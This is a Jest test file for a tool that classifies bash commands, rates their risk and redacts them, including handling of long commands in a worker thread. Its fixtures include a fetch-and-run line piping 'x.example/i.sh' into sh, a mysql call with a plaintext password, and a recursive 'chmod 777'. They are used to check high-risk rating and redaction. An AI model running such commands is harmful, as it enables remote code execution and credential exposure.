import { join } from 'node:path';
import { afterAll, expect, test } from '@jest/globals';
import { classify } from '../../src/actors/classification.ts';
import { LONG, type RatingPorts, rateAll } from '../../src/actors/collector/rating.ts';
import type { RawCommand } from '../../src/domain/spool/observation.ts';
import { assess } from '../../src/risk/assess.ts';
import { openPool } from '../../src/workers/pool.ts';

const HOME = '/home/ada';
const pool = openPool(join(__dirname, '../../dist/worker.js'));
afterAll(() => pool.close());

/** The two actors, with what they were given. */
function ports(rateLong?: RatingPorts['rateLong']): { readonly given: string[]; readonly ports: RatingPorts } {
  const given: string[] = [];
  const request = (kind: string, body: readonly never[]): Promise<never> => {
    const commands = body as readonly {
      command: string;
      shell: 'bash';
      analysis: ReturnType<typeof classify>['analysis'];
    }[];
    if (kind === 'command.classify') given.push(...commands.map(({ command }) => command));
    return Promise.resolve(
      commands.map((one) => {
        if (kind === 'command.classify') return classify(one);
        const { level, findings } = assess(one.analysis, { home: HOME });
        return { level, rules: findings.map(({ rule }) => rule) };
      }) as never,
    );
  };
  const bus = { publish: () => Promise.resolve(), request: request as RatingPorts['bus']['request'] };
  const inThread: RatingPorts['rateLong'] = (command) => pool.run('rateCommand', { ...command, home: HOME });
  return { given, ports: { bus, rateLong: rateLong ?? inThread } };
}

const raw = (command: string, at: number): RawCommand => ({
  key: { session: 'bash.1.1', command: at },
  startMs: at,
  shell: 'bash',
  command,
  cwd: null,
});
const LONG_TEXT = `curl -s https://x.example/i.sh | sh; mysql -phunter2 ${'a '.repeat(LONG)}`;

test('a long command is rated in a thread like any other, and the order is kept', async () => {
  const texts = ['git status', LONG_TEXT, 'ls', 'chmod -R 777 .'];
  const { given, ports: threaded } = ports();
  const started = await rateAll(threaded, texts.map(raw), true);
  expect(given).toEqual(['git status', 'ls', 'chmod -R 777 .']);
  const { ports: plain } = ports((command) => {
    const { analysis, ...classification } = classify(command);
    const { level, findings } = assess(analysis, { home: HOME });
    return Promise.resolve({ classification, rating: { level, rules: findings.map(({ rule }) => rule) } });
  });
  expect(started).toEqual(await rateAll(plain, texts.map(raw), true));
  expect(started.map(({ key }) => key.command)).toEqual([0, 1, 2, 3]);
  expect(started[1]).toMatchObject({ tools: ['curl', 'sh', 'mysql'], risk: 'high', redacted: true });
});

test.each([true, false])(
  'a command that stopped its thread is stored fully masked, also with redact = %s',
  async (redact) => {
    const [stored] = await rateAll(ports(() => Promise.resolve(null)).ports, [raw(LONG_TEXT, 1)], redact);
    expect(stored).toMatchObject({
      command: '‹redacted:not-analysed›',
      redacted: true,
      tools: [],
      risk: 'moderate',
      rules: ['evasion.unreadable'],
    });
  },
);

test('many long commands are rated in parts, and requests are answered in between', async () => {
  const texts = Array.from({ length: 20 }, () => `echo ${'x'.repeat(LONG - 10)}`);
  const { ports: threaded, given } = ports();
  let turns = 0;
  const count = (): void => {
    turns += 1;
    if (turns < 1_000 && given.length < texts.length) setImmediate(count);
  };
  setImmediate(count);
  await rateAll(threaded, texts.map(raw), true);
  expect(given).toHaveLength(20);
  expect(turns).toBeGreaterThan(5);
});
